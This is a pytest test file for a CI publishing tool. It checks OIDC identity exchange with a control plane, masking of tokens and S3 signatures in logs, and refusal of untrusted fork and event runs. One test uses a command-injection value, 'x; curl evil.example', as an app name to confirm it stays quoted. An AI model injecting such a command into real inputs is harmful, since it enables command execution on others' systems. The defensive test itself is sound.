"""Who a run is to the control plane, and what it is told when it is nobody."""

from __future__ import annotations

from typing import Any

import pytest

from pullprod import api as client_api
from pullprod.config import Connection
from pullprod.runner.publish import MaskingApi
from tests.action.conftest import PUBLISHER, WHO
from tests.support.api import Api, client
from tests.support.client import faulty, says
from tests.support.oidc import REQUEST_TOKEN, Issuer
from tests.support.runner import Done, Job, command
from tests.support.server import Server

FORK = {"pull_request": {"number": 7, "head": {"repo": {"id": 1}}, "base": {"repo": {"id": 74}}}}
GONE = {"pull_request": {"number": 7, "head": {"repo": None}, "base": {"repo": {"id": 74}}}}
OWN = {"pull_request": {"number": 7, "head": {"repo": {"id": 74}}, "base": {"repo": {"id": 74}}}}


def nobody(job: Job) -> Job:
    """Take away what a job has only with `id-token: write`."""
    for name in [name for name in job.environ if name.startswith("ACTIONS_ID_TOKEN")]:
        del job.environ[name]
    return job


def masked_first(done: Done, *secrets: str) -> None:
    """Check that each secret is masked before any line shows it, and that nothing else was printed before the first."""
    lines = done.log.split("\n")
    for secret in secrets:
        assert secret
        first = next(number for number, line in enumerate(lines) if secret in line)
        assert lines[first] == f"::add-mask::{secret}"
        assert not [line for line in lines[first + 1 :] if secret in line and line != lines[first]]


def test_the_token_is_asked_for_with_the_address_as_audience_and_masked_before_anything_is_printed(
    job: Job, identities: Issuer, server: Server, app: str
) -> None:
    done = job.run(github_token="ghs_all")
    masked_first(done, REQUEST_TOKEN, "ghs_all", identities.given[-1])
    shown = [line for line in done.log.split("\n") if line and not line.startswith("::add-mask::")]
    assert shown[0].startswith("::group::")
    masks = done.told("add-mask")
    token = masks[masks.index(identities.given[-1]) + 1]
    assert done.log.index(token) < done.log.index(shown[0])
    with client(server.url, token) as run:
        assert run.call("GET", f"/v1/apps/{app}").ok


def test_every_signature_of_an_upload_address_is_masked(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    addresses: list[str] = []
    send = client_api.Api.call

    def call(self: Any, *arguments: Any) -> Any:
        answer = send(self, *arguments)
        addresses.extend(item["url"] for item in (answer.get("uploads") or {}).get("items", []))
        return answer

    monkeypatch.setattr(client_api.Api, "call", call)
    done = job.run()
    assert len(addresses) == 2
    for address in addresses:
        query = dict(pair.split("=", 1) for pair in address.partition("?")[2].split("&"))
        assert query["signature"] in done.told("add-mask")


@pytest.mark.parametrize(
    ("query", "masked"),
    [
        ("X-Amz-Credential=ASIA&X-Amz-Security-Token=Fwo%2F&X-Amz-Signature=abc", ["Fwo%2F"]),
        ("X-Amz-Credential=AKIA&X-Amz-Signature=abc", ["abc"]),
        ("expires=1&signature=def", ["def"]),
        ("", []),
    ],
)
def test_what_makes_an_address_of_s3_usable_is_masked_once(
    query: str, masked: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    page = {"items": [{"url": f"https://bucket.example/{name}?{query}"} for name in "ab"], "next_cursor": None}
    with faulty(says(200, page)) as plane:
        MaskingApi(lambda: Connection(plane.url, "pp_x")).call("POST", "/v1/apps/shop/versions/v/uploads", {})
    told = [found.data for line in capsys.readouterr().out.splitlines() if (found := command(line))]
    assert told == masked


def test_a_token_from_the_environment_will_do(job: Job, server: Server) -> None:
    nobody(job).environ["PULLPROD_TOKEN"] = f"{server.token}\n"
    done = job.run()
    assert done.code == 0
    masked_first(done, server.token)


@pytest.mark.parametrize(
    ("event", "actor", "why"),
    [(FORK, "mallory", "from a fork"), (GONE, "mallory", "from a fork"), (OWN, "dependabot[bot]", "Dependabot")],
)
def test_where_github_gives_no_identity_on_purpose_a_notice_is_all(job: Job, event: Any, actor: str, why: str) -> None:
    job.event = event
    nobody(job).environ["GITHUB_ACTOR"] = actor
    done = job.run()
    assert (done.code, done.outputs["state"], done.told("error")) == (0, "skipped", [])
    (notice,) = done.told("notice")
    assert why in notice
    assert why in job.run(on_untrusted="fail").error


def test_a_fork_whose_workflow_was_given_a_token_publishes(job: Job, server: Server) -> None:
    job.event = FORK
    nobody(job).environ["PULLPROD_TOKEN"] = server.token
    assert job.run().outputs["state"] == "ready"


@pytest.mark.parametrize("event", [{}, OWN])
def test_without_the_permission_the_error_names_it(job: Job, event: Any) -> None:
    job.event = event
    assert "`permissions: {id-token: write}`" in nobody(job).run(on_untrusted="skip").error


def test_outside_of_github_a_token_is_asked_for(job: Job) -> None:
    nobody(job).environ["GITHUB_ACTIONS"] = ""
    assert "set PULLPROD_TOKEN" in job.run().error


def test_an_address_that_the_control_plane_does_not_know_itself_under_is_told_with_the_right_one(
    job: Job, server: Server
) -> None:
    done = job.run(url=f"http://127.0.0.1:{server.port}")
    assert done.error == (
        f"The input url is http://127.0.0.1:{server.port}, but the control plane there is "
        f"http://localhost:{server.port}: give that address."
    )
    assert done.result["reason"] == "audience"


def test_an_unknown_issuer_is_told(job: Job, identities: Issuer) -> None:
    identities.claims["iss"] = "https://github.example.com/_services/token"
    assert "takes no identities from https://github.com" in job.run().error


@pytest.mark.parametrize("claims", [{"repository_id": "99"}, {"repository_owner_id": "98"}])
def test_an_untrusted_repository_is_told_what_would_make_it_trusted(
    job: Job, identities: Issuer, app: str, claims: dict[str, str]
) -> None:
    identities.claims.update(claims)
    error = job.run().error
    assert error.startswith(f"The app {app} does not trust acme/shop: an admin")
    options = {"repository_id": "--repository-id", "repository_owner_id": "--owner-id"}
    assert all(f"{options[name]} {value}" in error for name, value in claims.items())


@pytest.mark.parametrize("named", ["unknown", "untrusting"])
def test_an_app_that_trusts_nobody_and_one_that_is_not_there_are_told_the_same(
    job: Job, admin: Api, named: str
) -> None:
    admin.app("untrusting")
    assert job.run(app=named).error.startswith(f"The app {named} does not trust acme/shop")


def test_the_command_that_an_admin_is_told_runs_nothing_that_a_pull_request_named_its_app(job: Job) -> None:
    assert "--app 'x; curl evil.example' --repository-id" in job.run(app="x; curl evil.example").error


@pytest.mark.parametrize("event", ["pull_request_target", "workflow_run", "issue_comment"])
def test_events_that_run_what_strangers_send_are_refused_with_the_reason(
    job: Job, identities: Issuer, event: str
) -> None:
    identities.claims["event_name"] = event
    error = job.run().error
    assert f"The event {event} is never trusted" in error
    assert "Publish from push or pull_request" in error


@pytest.mark.parametrize(
    ("claim", "value", "wanted"),
    [
        ("event_name", "release", "push or pull_request"),
        ("ref", "refs/tags/v1", "refs/heads/*"),
    ],
)
def test_a_run_that_differs_in_one_claim_is_told_which(
    job: Job, identities: Issuer, app: str, claim: str, value: str, wanted: str
) -> None:
    identities.claims[claim] = value
    error = job.run().error
    assert error.startswith(f"The app {app} trusts acme/shop only where {claim} is {wanted}")
    assert f"this run's is {value}" in error


def test_a_missing_environment_is_told(job: Job, admin: Api) -> None:
    admin.app("gated", trust=[{**WHO, "role": "publisher", "environment": "production"}])
    assert "only where environment is production, and this run's is not set" in job.run(app="gated").error


def test_an_exchange_whose_answer_was_lost_is_repeated_with_a_new_proof(
    job: Job, monkeypatch: pytest.MonkeyPatch, identities: Issuer
) -> None:
    send = client_api.Api.call
    lost: list[str] = []

    def call(self: Any, method: str, path: str, *more: Any) -> Any:
        if path == "/v1/token" and not lost:
            lost.append(path)
            send(self, method, path, *more)
        return send(self, method, path, *more)

    monkeypatch.setattr(client_api.Api, "call", call)
    before = len(identities.given)
    assert job.run().code == 0
    assert lost
    assert len(identities.given) == before + 2


def test_an_issuer_that_fails_for_a_while_is_asked_again(
    job: Job, identities: Issuer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("pullprod.api.time.sleep", lambda _: None)
    identities.faults[:] = [500, 503]
    assert job.run().code == 0
    identities.faults[:] = [500] * 5
    assert "GitHub did not give this run an identity token" in job.run().error


def test_a_token_that_runs_out_in_the_middle_is_replaced(
    job: Job, admin: Api, app: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pullprod.upload import Uploader  # noqa: PLC0415

    send = Uploader.send

    def slowly(self: Any, items: Any) -> None:
        send(self, items)
        # What fifteen minutes do: the run's token is not taken any more.
        admin.ok("PUT", f"/v1/apps/{app}", {"trust": [{**PUBLISHER, "role": "releaser", "pointers": ["next"]}]})

    monkeypatch.setattr(Uploader, "send", slowly)
    assert job.run().outputs["state"] == "ready"
